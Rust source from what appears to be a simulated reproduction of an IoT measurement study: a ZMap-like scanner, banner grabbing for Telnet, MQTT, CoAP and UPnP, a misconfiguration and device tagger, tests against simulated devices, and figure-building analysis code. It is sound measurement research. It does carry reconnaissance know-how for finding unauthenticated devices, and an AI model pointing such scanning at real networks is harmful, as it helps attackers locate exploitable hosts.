            if let Some(t) = sweep.pending_ports.pop() {
                return Some(t);
            }
            let offset = sweep.perm.next()?;
            let addr = Ipv4Addr::from(u32::from(sweep.cfg.base).wrapping_add(offset as u32));
            // Shard filter first: the sampling RNG must only be consulted
            // for owned addresses, so each shard's draw sequence is a pure
            // function of its own targets.
            if !sweep.cfg.shard.owns(addr) {
                continue;
            }
            if sweep.cfg.blocklist.contains(addr) {
                continue;
            }
            if sweep.cfg.sample_rate < 1.0 && !self.rng.gen_bool(sweep.cfg.sample_rate) {
                continue;
            }
            let sweep = &mut self.sweeps[sweep_idx];
            for &port in sweep.cfg.ports.iter().rev() {
                sweep.pending_ports.push((addr, port));
            }
        }
    }

    fn issue_batch(&mut self, ctx: &mut NetCtx<'_>, sweep_idx: usize) {
        let (protocol, batch, is_udp) = {
            let cfg = &self.sweeps[sweep_idx].cfg;
            (cfg.protocol, cfg.batch, cfg.protocol.is_udp())
        };
        // Counted once per batch, not per probe — issue_batch is the
        // scanner's hottest loop.
        let before = self.sweeps[sweep_idx].probes_sent;
        for _ in 0..batch {
            let Some((addr, port)) = self.next_target(sweep_idx) else {
                if !self.sweeps[sweep_idx].exhausted {
                    self.sweeps[sweep_idx].exhausted = true;
                    self.active_sweeps -= 1;
                }
                let sent = self.sweeps[sweep_idx].probes_sent - before;
                if sent > 0 {
                    ofh_obs::count_l("scan.probe.sent", protocol.name(), sent);
                }
                return;
            };
            self.sweeps[sweep_idx].probes_sent += 1;
            let dst = SockAddr::new(addr, port);
            if is_udp {
                let mid = self.message_id;
                self.message_id = self.message_id.wrapping_add(1).max(1);
                if let Some(payload) = self.templates.udp_probe(protocol, mid) {
                    self.mark_udp_probe(addr, port, sweep_idx);
                    ctx.udp_send(40_000, dst, payload);
                }
            } else {
                // The sweep index rides on the connection as a tag; the grab
                // record is created only if the host answers — probes into
                // empty space leave no scanner-side state at all.
                ctx.tcp_connect_tagged(dst, sweep_idx as u64);
            }
        }
        ofh_obs::count_l("scan.probe.sent", protocol.name(), batch as u64);
    }

    fn finalize(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, close: bool) {
        let Some(grab) = self.grabs.remove(&conn) else {
            return;
        };
        let protocol = self.sweeps[grab.sweep].cfg.protocol;
        ofh_obs::count_l("scan.response.recorded", protocol.name(), 1);
        ofh_obs::observe_l("scan.response_bytes", protocol.name(), grab.buf.len() as u64);
        ofh_obs::span(
            "scan.grab",
            protocol.name(),
            ctx.now().0,
            ctx.now().0,
            u32::from(ctx.my_addr()),
            u32::from(grab.addr),
            grab.port,
            grab.buf.len() as u32,
        );
        // Empty buffer = responsive host with no banner: still recorded,
        // with an empty response (the port is provably open).
        let response = probe::normalize_response(protocol, &grab.buf);
        self.results.insert(HostRecord {
            addr: grab.addr,
            port: grab.port,
            protocol,
            response,
            raw: grab.buf,
        });
        if close {
            ctx.tcp_close(conn);
        }
    }
}

impl Agent for Scanner {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        ctx.set_initial_ttl(64);
        // ZMap's characteristic large SYN window (the telescope's
        // is_masscan heuristic keys off scanner windows).
        ctx.set_syn_window(65_535);
        let now = ctx.now();
        for (i, sweep) in self.sweeps.iter().enumerate() {
            let delay = sweep.cfg.start_at.since(now);
            ctx.set_timer(delay, i as u64);
        }
    }

    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, token: u64) {
        if token & DEADLINE_BIT != 0 {
            let conn = ConnToken(token & !DEADLINE_BIT);
            self.finalize(ctx, conn, true);
            return;
        }
        let sweep_idx = token as usize;
        self.issue_batch(ctx, sweep_idx);
        if !self.sweeps[sweep_idx].exhausted {
            let tick = self.sweeps[sweep_idx].cfg.tick;
            ctx.set_timer(tick, token);
        }
    }

    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        // Recover the probe context from the connection itself (sweep from
        // the tag, target from the peer) — a responsive host is the rare
        // case, so this is where the grab record is created.
        let Some(sweep_idx) = ctx.conn_tag(conn).map(|t| t as usize) else {
            return;
        };
        let Some(peer) = ctx.conn_peer(conn) else {
            return;
        };
        debug_assert!(conn.0 & DEADLINE_BIT == 0, "conn id collides with deadline bit");
        self.grabs.insert(
            conn,
            Grab {
                sweep: sweep_idx,
                addr: peer.addr,
                port: peer.port,
                buf: Vec::new(),
                followed_up: false,
            },
        );
        let cfg = &self.sweeps[sweep_idx].cfg;
        let (protocol, window) = (cfg.protocol, cfg.grab_window);
        if let Some(opening) = self.templates.tcp_opening(protocol) {
            ctx.tcp_send(conn, opening);
        }
        ctx.set_timer(window, DEADLINE_BIT | conn.0);
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some(grab) = self.grabs.get_mut(&conn) else {
            return;
        };
        let first_chunk = grab.buf.is_empty();
        grab.buf.extend_from_slice(data);
        let protocol = self.sweeps[grab.sweep].cfg.protocol;
        if first_chunk && !grab.followed_up {
            if let Some(followup) = probe::tcp_followup(protocol, data) {
                grab.followed_up = true;
                ctx.tcp_send(conn, followup);
            }
        }
    }

    // Refused / timed-out probes carry no scanner-side state (the grab is
    // only created on establishment), so the default no-ops suffice.

    fn on_tcp_closed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        // Peer closed first: record what we have.
        self.finalize(ctx, conn, false);
    }

    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, _local_port: u16, peer: SockAddr, payload: &Payload) {
        let Some(sweep_idx) = self.udp_response_sweep(peer.addr, peer.port) else {
            return;
        };
        let protocol = self.sweeps[sweep_idx].cfg.protocol;
        ofh_obs::count_l("scan.response.recorded", protocol.name(), 1);
        ofh_obs::observe_l("scan.response_bytes", protocol.name(), payload.len() as u64);
        ofh_obs::span(
            "scan.grab",
            protocol.name(),
            ctx.now().0,
            ctx.now().0,
            u32::from(ctx.my_addr()),
            u32::from(peer.addr),
            peer.port,
            payload.len() as u32,
        );
        let response = probe::normalize_response(protocol, payload);
        self.results.insert(HostRecord {
            addr: peer.addr,
            port: peer.port,
            protocol,
            response,
            raw: payload.to_vec(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_devices::endpoints::{CoapDevice, MqttDevice, TelnetDevice, UpnpDevice};
    use ofh_devices::Misconfig;
    use ofh_net::{ip, SimNet, SimNetConfig};
    use ofh_wire::ssdp::DeviceDescription;

    fn scan_one(
        protocol: Protocol,
        attach: impl FnOnce(&mut SimNet),
    ) -> ScanResults {
        let mut net = SimNet::new(SimNetConfig::default());
        attach(&mut net);
        let cfg = ScannerConfig {
            batch: 64,
            ..ScannerConfig::full(protocol, ip(16, 4, 0, 0), 256, SimTime::ZERO, 1)
        };
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        net.agent_downcast_mut::<Scanner>(sid).unwrap().results.clone()
    }

    #[test]
    fn telnet_sweep_finds_and_classifies() {
        let results = scan_one(Protocol::Telnet, |net| {
            net.attach(
                ip(16, 4, 0, 10),
                Box::new(TelnetDevice::new("PK5001Z login:", Some(Misconfig::TelnetNoAuthRoot), 23)),
            );
            net.attach(
                ip(16, 4, 0, 20),
                Box::new(TelnetDevice::new("192.168.0.64 login:", None, 23)),
            );
            net.attach(
                ip(16, 4, 0, 30),
                Box::new(TelnetDevice::new("BusyBox", Some(Misconfig::TelnetNoAuth), 2323)),
            );
        });
        assert_eq!(results.exposed_hosts(Protocol::Telnet), 3);
        assert_eq!(
            results.misconfigured_addrs(Misconfig::TelnetNoAuthRoot).len(),
            1
        );
        // The 2323-only device was found thanks to the extra port.
        assert!(results
            .misconfigured_addrs(Misconfig::TelnetNoAuth)
            .contains(&ip(16, 4, 0, 30)));
        // Device tagging works on the scan output.
        let rec = results.records.get(&(ip(16, 4, 0, 20), 23)).unwrap();
        assert_eq!(rec.device().unwrap().name, "HiKVision Camera");
    }

    #[test]
    fn mqtt_sweep_grabs_connack_and_topics() {
        let results = scan_one(Protocol::Mqtt, |net| {
            net.attach(
                ip(16, 4, 0, 40),
                Box::new(MqttDevice::new(
                    Some(Misconfig::MqttNoAuth),
                    vec![("homeassistant/light/k".into(), b"on".to_vec())],
                )),
            );
            net.attach(ip(16, 4, 0, 50), Box::new(MqttDevice::new(None, vec![])));
        });
        assert_eq!(results.exposed_hosts(Protocol::Mqtt), 2);
        let open = results.records.get(&(ip(16, 4, 0, 40), 1883)).unwrap();
        assert!(open.response.contains("MQTT Connection Code:0"));
        assert!(open.response.contains("topic: homeassistant/light/k"));
        assert_eq!(open.misconfig(), Some(Misconfig::MqttNoAuth));
        let closed = results.records.get(&(ip(16, 4, 0, 50), 1883)).unwrap();
        assert_eq!(closed.misconfig(), None);
    }

    #[test]
    fn coap_sweep_is_response_based() {
        let results = scan_one(Protocol::Coap, |net| {
            net.attach(
                ip(16, 4, 0, 60),
                Box::new(CoapDevice::new(
                    Some(Misconfig::CoapReflection),
                    vec![ofh_wire::coap::LinkEntry {
                        path: "/ndm/login".into(),
                        attrs: vec![],
                    }],
                )),
            );
            net.attach(ip(16, 4, 0, 61), Box::new(CoapDevice::new(None, vec![])));
        });
        assert_eq!(results.exposed_hosts(Protocol::Coap), 2);
        let reflect = results.records.get(&(ip(16, 4, 0, 60), 5683)).unwrap();
        assert_eq!(reflect.misconfig(), Some(Misconfig::CoapReflection));
        assert_eq!(reflect.device().unwrap().name, "NDM");
        let safe = results.records.get(&(ip(16, 4, 0, 61), 5683)).unwrap();
        assert_eq!(safe.misconfig(), None);
    }

    #[test]
    fn upnp_sweep_discovers_rootdevices() {
        let results = scan_one(Protocol::Upnp, |net| {
            net.attach(
                ip(16, 4, 0, 70),
                Box::new(UpnpDevice::new(
                    Some(Misconfig::UpnpReflection),
                    "Linux/2.x UPnP/1.0 Avtech/1.0",
                    DeviceDescription::default(),
                )),
            );
        });
        let rec = results.records.get(&(ip(16, 4, 0, 70), 1900)).unwrap();
        assert_eq!(rec.misconfig(), Some(Misconfig::UpnpReflection));
        assert_eq!(rec.device().unwrap().name, "Avtech AVN801");
    }

    #[test]
    fn blocklist_is_honoured() {
        let mut net = SimNet::new(SimNetConfig::default());
        net.attach(
            ip(16, 4, 0, 10),
            Box::new(TelnetDevice::new("x", Some(Misconfig::TelnetNoAuth), 23)),
        );
        let mut cfg = ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 256, SimTime::ZERO, 1);
        cfg.blocklist.insert("16.4.0.0/24".parse().unwrap());
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        let s = net.agent_downcast::<Scanner>(sid).unwrap();
        assert!(s.results.is_empty());
        assert!(s.all_probes_sent());
        assert_eq!(s.probes_sent(), 0);
    }

    #[test]
    fn sampling_reduces_coverage_deterministically() {
        let run = || {
            let mut net = SimNet::new(SimNetConfig::default());
            for i in 0..64u32 {
                net.attach(
                    Ipv4Addr::from(u32::from(ip(16, 4, 0, 0)) + i),
                    Box::new(TelnetDevice::new("x", Some(Misconfig::TelnetNoAuth), 23)),
                );
            }
            let cfg = ScannerConfig {
                sample_rate: 0.5,
                ports: vec![23],
                ..ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 64, SimTime::ZERO, 9)
            };
            let end = Scanner::estimated_end(&cfg);
            let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("Shodan", vec![cfg])));
            net.run_until(end);
            net.agent_downcast::<Scanner>(sid).unwrap().results.len()
        };
        let a = run();
        let b = run();
        assert_eq!(a, b, "sampling must be deterministic");
        assert!(a > 16 && a < 48, "coverage {a} should be ~half");
    }

    #[test]
    fn sweeps_cover_whole_space() {
        // No devices: just verify probe accounting over the permutation.
        let mut net = SimNet::new(SimNetConfig::default());
        let cfg = ScannerConfig {
            ports: vec![23, 2323],
            ..ScannerConfig::full(Protocol::Telnet, ip(16, 4, 0, 0), 512, SimTime::ZERO, 3)
        };
        let end = Scanner::estimated_end(&cfg);
        let sid = net.attach(ip(16, 3, 0, 1), Box::new(Scanner::new("ZMap Scan", vec![cfg])));
        net.run_until(end);
        let s = net.agent_downcast::<Scanner>(sid).unwrap();
        assert_eq!(s.probes_sent(), 512 * 2);
        assert!(s.all_probes_sent());
    }
}
