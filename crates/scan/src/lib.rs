//! # ofh-scan — Internet-wide scanning (the ZMap / ZGrab / ZTag analogue)
//!
//! Implements the paper's §3.1 measurement pipeline over the simulated
//! Internet:
//!
//! * [`iterator`] — ZMap's address iteration: a pseudorandom permutation of
//!   the target space built from a cyclic multiplicative group modulo a
//!   prime, so probes spread evenly over networks instead of hammering one
//!   subnet (Durumeric et al., USENIX Security '13);
//! * [`probe`] — per-protocol application probes: Telnet banner reads, MQTT
//!   unauthenticated CONNECT + wildcard SUBSCRIBE, AMQP protocol header,
//!   XMPP stream open, CoAP `/.well-known/core`, SSDP `ssdp:discover`;
//! * [`scanner`] — the scanning agent: paced sweeps, fixed source port,
//!   blocklists (ZMap default + FireHOL-style), response collection,
//!   host records;
//! * [`classify`] — the misconfiguration classifier implementing the
//!   indicators of Tables 2 (banner-based, TCP) and 3 (response-based, UDP);
//! * [`ztag`] — device-type annotation from banners/responses (Appendix
//!   Table 11, Fig. 2);
//! * [`datasets`] — the open-dataset providers (Project Sonar, Shodan) as
//!   independent scanners with their own coverage models — Table 4's
//!   source-to-source deltas are *measured*, not transcribed;
//! * [`schedule`] — the scan calendar of Appendix Table 9;
//! * [`results`] — the scan-result dataset with merge/count/export.

pub mod bitset;
pub mod classify;
pub mod datasets;
pub mod iterator;
pub mod probe;
pub mod results;
pub mod scanner;
pub mod schedule;
pub mod ztag;

pub use classify::classify_response;
pub use iterator::AddressPermutation;
pub use results::{HostRecord, ScanResults};
pub use scanner::{RetryPolicy, ScanResilience, Scanner, ScannerConfig, TargetSpace};
pub use schedule::scan_start;
