//! ZTag-style device-type annotation.
//!
//! ZTag annotates raw scan data with metadata; the paper uses banner and
//! static-response fragments as tags to identify device types (§4.1.2,
//! Appendix Table 11, Fig. 2). Matching is case-insensitive substring search
//! against the profile catalog.

use ofh_devices::profiles::{DeviceProfile, PROFILES};
use ofh_devices::DeviceType;
use ofh_wire::Protocol;

/// Identify the device profile a normalized response belongs to.
pub fn tag_device(protocol: Protocol, response_text: &str) -> Option<&'static DeviceProfile> {
    let lower = response_text.to_ascii_lowercase();
    PROFILES
        .iter()
        .find(|p| p.protocol == protocol && lower.contains(&p.identifier.to_ascii_lowercase()))
}

/// The device type, if identifiable.
pub fn tag_device_type(protocol: Protocol, response_text: &str) -> Option<DeviceType> {
    tag_device(protocol, response_text).map(|p| p.device_type)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn telnet_camera_banner() {
        let p = tag_device(Protocol::Telnet, "192.168.0.64 login:").unwrap();
        assert_eq!(p.name, "HiKVision Camera");
        assert_eq!(p.device_type, DeviceType::Camera);
    }

    #[test]
    fn upnp_matching_is_case_insensitive() {
        // SSDP responses carry `SERVER:` upper-case; Table 11 writes
        // `Server:` — the tagger must not care.
        let text = "HTTP/1.1 200 OK\r\nSERVER: LINUX/2.X UPNP/1.0 AVTECH/1.0\r\n";
        let p = tag_device(Protocol::Upnp, text).unwrap();
        assert_eq!(p.name, "Avtech AVN801");
    }

    #[test]
    fn mqtt_topic_tagging() {
        let text = "MQTT Connection Code:0\ntopic: homeassistant/light/kitchen\n";
        let p = tag_device(Protocol::Mqtt, text).unwrap();
        assert_eq!(p.device_type, DeviceType::SmartHome);
    }

    #[test]
    fn coap_attr_tagging() {
        let text = "CoAP 2.05\n/qlink\ntitle: Qlink-ACK Resource\n";
        let p = tag_device(Protocol::Coap, text).unwrap();
        assert_eq!(p.name, "QLink");
    }

    #[test]
    fn wrong_protocol_does_not_tag() {
        assert!(tag_device(Protocol::Mqtt, "192.168.0.64 login:").is_none());
        assert!(tag_device(Protocol::Xmpp, "anything at all").is_none());
    }

    #[test]
    fn unidentifiable_responses() {
        assert!(tag_device(Protocol::Telnet, "login:").is_none());
        assert!(tag_device_type(Protocol::Upnp, "HTTP/1.1 200 OK\r\n").is_none());
    }
}
