//! Property tests for the scanning layer.

use ofh_scan::{classify_response, AddressPermutation};
use ofh_wire::Protocol;
use proptest::prelude::*;

proptest! {
    /// The address permutation is a bijection over arbitrary sizes.
    #[test]
    fn permutation_bijection(size in 1u64..30_000, seed in any::<u64>()) {
        let mut seen = vec![false; size as usize];
        let mut count = 0u64;
        for v in AddressPermutation::new(size, seed) {
            prop_assert!(v < size);
            prop_assert!(!seen[v as usize], "value {v} visited twice");
            seen[v as usize] = true;
            count += 1;
        }
        prop_assert_eq!(count, size);
    }

    /// Two permutations with the same (size, seed) are identical; different
    /// seeds differ (for non-degenerate sizes).
    #[test]
    fn permutation_seed_sensitivity(size in 100u64..5_000, seed in any::<u64>()) {
        let a: Vec<u64> = AddressPermutation::new(size, seed).take(32).collect();
        let b: Vec<u64> = AddressPermutation::new(size, seed).take(32).collect();
        prop_assert_eq!(&a, &b);
        let c: Vec<u64> = AddressPermutation::new(size, seed.wrapping_add(1)).take(32).collect();
        prop_assert_ne!(&a, &c);
    }

    /// The misconfiguration classifier is total over arbitrary text and
    /// only ever returns a class belonging to the probed protocol.
    #[test]
    fn classifier_total_and_protocol_consistent(text in "\\PC{0,300}") {
        for proto in Protocol::SCANNED {
            if let Some(class) = classify_response(proto, &text) {
                prop_assert_eq!(class.protocol(), proto);
            }
        }
    }

    /// Classifier rules are monotone under concatenation for the positive
    /// indicators: appending the indicator to arbitrary text always flags.
    #[test]
    fn indicators_always_fire(prefix in "[a-zA-Z0-9 :.\\r\\n]{0,80}") {
        use ofh_devices::Misconfig;
        let cases = [
            (Protocol::Mqtt, "MQTT Connection Code:0", Misconfig::MqttNoAuth),
            (Protocol::Upnp, "ST: upnp:rootdevice", Misconfig::UpnpReflection),
            (Protocol::Coap, "220-Admin </x>", Misconfig::CoapNoAuthAdmin),
            (Protocol::Amqp, "Version: 2.7.1", Misconfig::AmqpNoAuth),
        ];
        for (proto, indicator, expect) in cases {
            let text = format!("{prefix}{indicator}");
            prop_assert_eq!(classify_response(proto, &text), Some(expect), "{}", proto);
        }
    }
}
