//! Table 10 — misconfigured devices by country.

use std::collections::BTreeMap;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use ofh_intel::{Country, GeoDb};
use serde::Serialize;

use crate::render::{percent, thousands, Table};

/// The computed Table 10.
#[derive(Debug, Clone, Serialize)]
pub struct Table10 {
    /// (country, count), descending by count.
    pub rows: Vec<(Country, u64)>,
    pub total: u64,
}

impl Table10 {
    /// Resolve every misconfigured address through the geolocation database
    /// (the paper uses ipgeolocation.io the same way).
    pub fn compute(misconfigured: &BTreeSet<Ipv4Addr>, geo: &GeoDb) -> Table10 {
        let mut counts: BTreeMap<Country, u64> = BTreeMap::new();
        for &addr in misconfigured {
            *counts.entry(geo.country_of(addr)).or_insert(0) += 1;
        }
        let mut rows: Vec<(Country, u64)> = counts.into_iter().collect();
        rows.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        let total = misconfigured.len() as u64;
        Table10 { rows, total }
    }

    pub fn count_of(&self, country: Country) -> u64 {
        self.rows
            .iter()
            .find(|(c, _)| *c == country)
            .map(|&(_, n)| n)
            .unwrap_or(0)
    }

    /// Top country by count.
    pub fn top(&self) -> Option<Country> {
        self.rows.first().map(|&(c, _)| c)
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Table 10: Misconfigured devices by country",
            &["Country", "Count", "Share", "Paper share"],
        );
        for &(country, n) in &self.rows {
            t.row(&[
                country.name().into(),
                thousands(n),
                percent(n, self.total),
                format!("{:.1}%", country.table10_share() * 100.0),
            ]);
        }
        t.row(&[
            "Total".into(),
            thousands(self.total),
            "100%".into(),
            "100%".into(),
        ]);
        t.render()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_by_geo() {
        let mut geo = GeoDb::with_prefix(24);
        geo.allocate_block("10.0.0.0".parse().unwrap(), Country::Usa, 1);
        geo.allocate_block("10.0.1.0".parse().unwrap(), Country::China, 2);
        let mut set = BTreeSet::new();
        set.insert("10.0.0.1".parse().unwrap());
        set.insert("10.0.0.2".parse().unwrap());
        set.insert("10.0.1.1".parse().unwrap());
        set.insert("99.0.0.1".parse().unwrap()); // unallocated -> Other
        let t10 = Table10::compute(&set, &geo);
        assert_eq!(t10.count_of(Country::Usa), 2);
        assert_eq!(t10.count_of(Country::China), 1);
        assert_eq!(t10.count_of(Country::Other), 1);
        assert_eq!(t10.top(), Some(Country::Usa));
        assert_eq!(t10.total, 4);
        assert!(t10.render().contains("USA"));
    }
}
