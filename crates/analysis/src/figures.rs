//! Figure data series — Figs. 2, 3, 4, 5, 6, 7, 8, 9.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use ofh_devices::DeviceType;
use ofh_intel::{GreyNoiseDb, GreyNoiseLabel, ReverseDns, VirusTotalDb};
use ofh_scan::{ztag, ScanResults};
use ofh_telescope::Telescope;
use ofh_wire::Protocol;
use serde::Serialize;

use crate::events::{AttackDataset, AttackType};
use crate::render::{percent, Table};

// ---------------------------------------------------------------- Fig. 2

/// Fig. 2 — top IoT device types by protocol (%).
#[derive(Debug, Clone, Serialize)]
pub struct Fig2 {
    /// (protocol, device type, hosts identified).
    pub cells: Vec<(Protocol, DeviceType, u64)>,
    /// Hosts per protocol that could not be typed.
    pub unidentified: BTreeMap<Protocol, u64>,
}

impl Fig2 {
    pub fn compute(zmap: &ScanResults) -> Fig2 {
        let mut cells: BTreeMap<(Protocol, DeviceType), BTreeSet<Ipv4Addr>> = BTreeMap::new();
        let mut unidentified: BTreeMap<Protocol, u64> = BTreeMap::new();
        for r in zmap.records.values() {
            match ztag::tag_device_type(r.protocol, &r.response) {
                Some(ty) => {
                    cells.entry((r.protocol, ty)).or_default().insert(r.addr);
                }
                None => *unidentified.entry(r.protocol).or_insert(0) += 1,
            }
        }
        Fig2 {
            cells: cells
                .into_iter()
                .map(|((p, t), set)| (p, t, set.len() as u64))
                .collect(),
            unidentified,
        }
    }

    pub fn identified_on(&self, protocol: Protocol) -> u64 {
        self.cells
            .iter()
            .filter(|(p, _, _)| *p == protocol)
            .map(|(_, _, n)| n)
            .sum()
    }

    pub fn count(&self, protocol: Protocol, ty: DeviceType) -> u64 {
        self.cells
            .iter()
            .find(|(p, t, _)| *p == protocol && *t == ty)
            .map(|&(_, _, n)| n)
            .unwrap_or(0)
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Fig. 2: Top IoT device types by protocol (%)",
            &["Protocol", "Device type", "Hosts", "Share of identified"],
        );
        for &(p, ty, n) in &self.cells {
            t.row(&[
                p.name().into(),
                ty.name().into(),
                n.to_string(),
                percent(n, self.identified_on(p)),
            ]);
        }
        t.render()
    }
}

// ---------------------------------------------------------------- Fig. 3

/// Fig. 3 — scanning-service traffic on honeypots (%).
#[derive(Debug, Clone, Serialize)]
pub struct Fig3 {
    /// (honeypot, service, events from that service).
    pub cells: Vec<(String, String, u64)>,
}

impl Fig3 {
    /// Attribute scanning-service events by reverse lookup. The rDNS
    /// convention is `probe-N.<service>.scanner.example`.
    pub fn compute(dataset: &AttackDataset, rdns: &ReverseDns) -> Fig3 {
        let mut cells: BTreeMap<(String, String), u64> = BTreeMap::new();
        for e in &dataset.events {
            if let Some(domain) = rdns.domain_of(e.src) {
                if let Some(service) = service_of_domain(domain) {
                    *cells
                        .entry((e.honeypot.to_string(), service.to_string()))
                        .or_insert(0) += 1;
                }
            }
        }
        Fig3 {
            cells: cells.into_iter().map(|((h, s), n)| (h, s, n)).collect(),
        }
    }

    pub fn total_for(&self, honeypot: &str) -> u64 {
        self.cells
            .iter()
            .filter(|(h, _, _)| h == honeypot)
            .map(|(_, _, n)| n)
            .sum()
    }

    /// Services ranked by total events across honeypots.
    pub fn ranked_services(&self) -> Vec<(String, u64)> {
        let mut totals: BTreeMap<String, u64> = BTreeMap::new();
        for (_, s, n) in &self.cells {
            *totals.entry(s.clone()).or_insert(0) += n;
        }
        let mut v: Vec<(String, u64)> = totals.into_iter().collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Fig. 3: Scanning-service traffic on honeypots",
            &["Service", "Events", "Share"],
        );
        let total: u64 = self.cells.iter().map(|(_, _, n)| n).sum();
        for (s, n) in self.ranked_services() {
            t.row(&[s, n.to_string(), percent(n, total)]);
        }
        t.render()
    }
}

/// Map an rDNS domain to its scanning-service name (the `slug` the
/// registration convention embeds).
fn service_of_domain(domain: &str) -> Option<&str> {
    let rest = domain.strip_suffix(".scanner.example")?;
    rest.split('.').next_back()
}

// ---------------------------------------------------------- Figs. 4 and 7

/// Fig. 4 (attack types per honeypot) and Fig. 7 (attack trends by type and
/// protocol) share the same classification.
#[derive(Debug, Clone, Serialize)]
pub struct AttackTypeBreakdown {
    /// (honeypot, protocol, attack type, events).
    pub cells: Vec<(String, Protocol, AttackType, u64)>,
}

impl AttackTypeBreakdown {
    pub fn compute(dataset: &AttackDataset) -> AttackTypeBreakdown {
        let mut cells: BTreeMap<(String, Protocol, AttackType), u64> = BTreeMap::new();
        for e in &dataset.events {
            let ty = dataset.attack_type(e);
            *cells
                .entry((e.honeypot.to_string(), e.protocol, ty))
                .or_insert(0) += 1;
        }
        AttackTypeBreakdown {
            cells: cells.into_iter().map(|((h, p, t), n)| (h, p, t, n)).collect(),
        }
    }

    /// Fig. 4 series: per honeypot, events per attack type.
    pub fn per_honeypot(&self, honeypot: &str) -> BTreeMap<AttackType, u64> {
        let mut out = BTreeMap::new();
        for (h, _, t, n) in &self.cells {
            if h == honeypot {
                *out.entry(*t).or_insert(0) += n;
            }
        }
        out
    }

    /// Fig. 7 series: per protocol, events per attack type.
    pub fn per_protocol(&self, protocol: Protocol) -> BTreeMap<AttackType, u64> {
        let mut out = BTreeMap::new();
        for (_, p, t, n) in &self.cells {
            if *p == protocol {
                *out.entry(*t).or_insert(0) += n;
            }
        }
        out
    }

    /// Share of one attack type on one protocol (Fig. 7 cell).
    pub fn share(&self, protocol: Protocol, ty: AttackType) -> f64 {
        let per = self.per_protocol(protocol);
        let total: u64 = per.values().sum();
        if total == 0 {
            0.0
        } else {
            *per.get(&ty).unwrap_or(&0) as f64 / total as f64
        }
    }

    pub fn render_fig4(&self) -> String {
        let mut t = Table::new(
            "Fig. 4: Attack types in different honeypots (%)",
            &["Honeypot", "Attack type", "Events"],
        );
        let honeypots: BTreeSet<String> = self.cells.iter().map(|(h, _, _, _)| h.clone()).collect();
        for h in honeypots {
            for (ty, n) in self.per_honeypot(&h) {
                t.row(&[h.clone(), ty.name().into(), n.to_string()]);
            }
        }
        t.render()
    }

    pub fn render_fig7(&self) -> String {
        let mut t = Table::new(
            "Fig. 7: Attack trends by type (%) and protocol",
            &["Protocol", "Attack type", "Events", "Share"],
        );
        let protocols: BTreeSet<Protocol> = self.cells.iter().map(|(_, p, _, _)| *p).collect();
        for p in protocols {
            let per = self.per_protocol(p);
            let total: u64 = per.values().sum();
            for (ty, n) in per {
                t.row(&[
                    p.name().into(),
                    ty.name().into(),
                    n.to_string(),
                    percent(n, total),
                ]);
            }
        }
        t.render()
    }
}

// ---------------------------------------------------------------- Fig. 5

/// Fig. 5 — our scanning-service classification vs GreyNoise.
#[derive(Debug, Clone, Serialize)]
pub struct Fig5 {
    /// (protocol, ours, greynoise-benign, unknown-to-greynoise).
    pub rows: Vec<(Protocol, u64, u64, u64)>,
    /// IPs we classify as scanning services that GreyNoise has no data on.
    pub missed_by_greynoise: u64,
}

impl Fig5 {
    pub fn compute(
        dataset: &AttackDataset,
        rdns: &ReverseDns,
        greynoise: &GreyNoiseDb,
    ) -> Fig5 {
        let mut per_proto: BTreeMap<Protocol, (BTreeSet<Ipv4Addr>, BTreeSet<Ipv4Addr>)> =
            BTreeMap::new();
        let mut missed: BTreeSet<Ipv4Addr> = BTreeSet::new();
        for e in &dataset.events {
            let ours = AttackDataset::is_scanning_service(rdns, e.src);
            if !ours {
                continue;
            }
            let entry = per_proto.entry(e.protocol).or_default();
            entry.0.insert(e.src);
            match greynoise.lookup(e.src) {
                Some(GreyNoiseLabel::Benign) => {
                    entry.1.insert(e.src);
                }
                _ => {
                    missed.insert(e.src);
                }
            }
        }
        Fig5 {
            rows: per_proto
                .into_iter()
                .map(|(p, (ours, gn))| {
                    let missing = ours.len() - gn.len();
                    (p, ours.len() as u64, gn.len() as u64, missing as u64)
                })
                .collect(),
            missed_by_greynoise: missed.len() as u64,
        }
    }

    pub fn row(&self, protocol: Protocol) -> Option<(u64, u64, u64)> {
        self.rows
            .iter()
            .find(|(p, _, _, _)| *p == protocol)
            .map(|&(_, a, b, c)| (a, b, c))
    }

    pub fn render(&self) -> String {
        let mut t = Table::new(
            "Fig. 5: Classification of scanning-services (ours vs GreyNoise)",
            &["Protocol", "Ours", "GreyNoise", "Only ours"],
        );
        for &(p, ours, gn, gap) in &self.rows {
            t.row(&[
                p.name().into(),
                ours.to_string(),
                gn.to_string(),
                gap.to_string(),
            ]);
        }
        t.render()
    }
}

// ---------------------------------------------------------------- Fig. 6

/// Fig. 6 — % of attack sources flagged malicious by VirusTotal, per
/// protocol, for honeypot (H) and telescope (T) datasets.
#[derive(Debug, Clone, Serialize)]
pub struct Fig6 {
    /// (protocol, dataset tag "H"/"T", sources, flagged).
    pub rows: Vec<(Protocol, &'static str, u64, u64)>,
}

impl Fig6 {
    pub fn compute(
        dataset: &AttackDataset,
